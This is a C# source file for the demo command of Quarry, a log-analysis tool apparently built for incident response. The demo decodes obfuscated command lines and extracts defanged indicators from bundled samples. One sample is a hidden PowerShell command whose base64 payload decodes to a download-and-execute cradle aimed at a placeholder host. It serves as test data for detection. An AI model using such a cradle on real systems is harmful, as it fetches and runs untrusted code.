using System.CommandLine;
using System.Reflection;
using System.Text;
using Quarry.Catalogue;
using Quarry.Cli.Running;
using Quarry.Cli.Terminals;
using Quarry.Data.Files;

namespace Quarry.Cli.Verbs;

/// <summary>The whole tour: every analysis there is, on sample data that the command carries with it.</summary>
internal static class DemoVerb
{
    private const string Samples = "samples/";
    private const string ProcessEvents = "windows-process-events.csv";
    private const string PhishedCommand = "(the CommandLine of row 1300)";
    private const int PhishedRow = 1300;

    private static readonly DemoStep[] Steps =
    [
        new(
            "What is hidden in the command lines?",
            "On 4 March somebody opened an invoice. decode finds the encoded PowerShell among 3,165 process\n"
            + "starts, and what is packed inside it: UTF-16 in base64, gzip in that, base64 in that again.\n"
            + "Layer 1.1.1 is the download.",
            ["decode", "samples/windows-process-events.csv", "--column", "CommandLine", "--limit", "12"]),
        new(
            "The same for one string",
            "--annotate prints the text with each encoded part replaced by what it holds.",
            [
                "decode", "--annotate", "--text",
                "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBhAHMAcwBlAHQAcwAuAGUAeABhAG0AcABsAGUALgBuAGUAdAAvAGEAJwApAA==",
            ]),
        new(
            "Which indicators are there?",
            "iocs takes addresses, names, URLs, hashes and mail addresses that are right, not merely shaped so;\n"
            + "defanged ones too. The time and the version number are none.",
            [
                "iocs", "--text",
                "beacon to hxxps[:]//telemetry[.]example[.]org/api and 203[.]0[.]113[.]58, seen 12:34:56 on Microsoft.NET 4.8.9037.0, mail soc@example.com",
            ]),
        new(
            "And inside what is encoded?",
            "--decode looks into every decoded layer too and says in which one an indicator was. The download's\n"
            + "URL is in none of the command lines as they were logged; it is in layer 1.1.1 of the one that Word\n"
            + "started (row 1300).",
            ["iocs", "--decode", "--text", PhishedCommand]),
        new(
            "Raw syslog, line by line",
            "Any text will do as input; a glob, a .gz or .zst file or a pipe as well.",
            ["iocs", "samples/syslog.log", "--types", "url,email", "--limit", "12"]),
    ];

    /// <summary>The command.</summary>
    public static Command Create(Func<bool, Terminal> terminals)
    {
        var noColor = new Option<bool>("--no-color") { Description = "No colours on the terminal." };
        var command = new Command("demo", "Shows every analysis at work on sample data.") { noColor };
        HelpWithExamples.AddTo(command, [new AnalysisExample("quarry demo", "the whole tour, in a few seconds")]);
        Guarded.SetAction(command, terminals, noColor, (parsed, terminal, interruption) => Run(terminal, interruption, parsed.GetValue(noColor), terminals));
        return command;
    }

    private static int Run(Terminal terminal, Interruption interruption, bool noColor, Func<bool, Terminal> terminals)
    {
        string directory = Directory.CreateTempSubdirectory("quarry-demo-").FullName;
        try
        {
            Unpack(directory);
            foreach (DemoStep step in Steps)
            {
                interruption.Token.ThrowIfCancellationRequested();
                Say(terminal, $"\n{step.Title}\n{step.Explanation}\n\n$ quarry {string.Join(' ', step.Arguments.Select(Quote))}\n");
                string[] arguments = [.. step.Arguments.Select(a => Locate(a, directory)), .. FormatOf(step)];
                int code = QuarryCommand.Run(noColor ? [.. arguments, "--no-color"] : arguments, terminals);
                if (code != ExitCode.Done)
                {
                    return code;
                }
            }

            Say(terminal, "\nThe samples are described in samples/README.md. Next: quarry --help, quarry search WORD.\n");
            return ExitCode.Done;
        }
        finally
        {
            Directory.Delete(directory, recursive: true);
        }
    }

    private static string[] FormatOf(DemoStep step) => step.Arguments.Contains("--annotate") ? [] : ["--format", "table"];

    private static string Locate(string argument, string directory)
    {
        if (argument == PhishedCommand)
        {
            using TableInput events = TableInput.Open([Path.Combine(directory, ProcessEvents)], new InputOptions { Columns = ["CommandLine"] });
            return events.Stream.Gather().Text("CommandLine").GetString(PhishedRow)!;
        }

        return argument.StartsWith(Samples, StringComparison.Ordinal) ? Path.Combine(directory, argument[Samples.Length..]) : argument;
    }

    private static string Quote(string argument) =>
        argument.Any(c => char.IsWhiteSpace(c) || c is '[' or '(' or '*') ? $"'{argument}'" : argument;

    private static void Say(Terminal terminal, string text)
    {
        terminal.Output.Write(Encoding.UTF8.GetBytes(text));
        terminal.Output.Flush();
    }

    private static void Unpack(string directory)
    {
        Assembly assembly = typeof(DemoVerb).Assembly;
        foreach (string name in assembly.GetManifestResourceNames().Where(n => n.StartsWith(Samples, StringComparison.Ordinal)))
        {
            using Stream resource = assembly.GetManifestResourceStream(name)!;
            using FileStream file = File.Create(Path.Combine(directory, name[Samples.Length..]));
            resource.CopyTo(file);
        }
    }

    private sealed record DemoStep(string Title, string Explanation, string[] Arguments);
}
